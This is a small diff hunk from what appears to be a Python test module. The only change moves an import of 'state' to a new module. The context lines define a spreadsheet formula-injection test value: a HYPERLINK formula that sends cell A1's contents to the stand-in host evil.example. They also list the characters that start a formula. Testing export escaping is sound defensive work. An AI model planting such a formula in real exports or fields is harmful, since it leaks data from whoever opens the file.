@@ -12,10 +12,10 @@ from sqlalchemy import text
 
 from amal.accounts.models import Role
 from amal.accounts.services import create_token
-from amal.app import state
 from amal.errors import DomainError
 from amal.groups.services import create_group, enrol
 from amal.reports.periods import parse_period
+from amal.runtime import state
 
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Apri registro")'
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
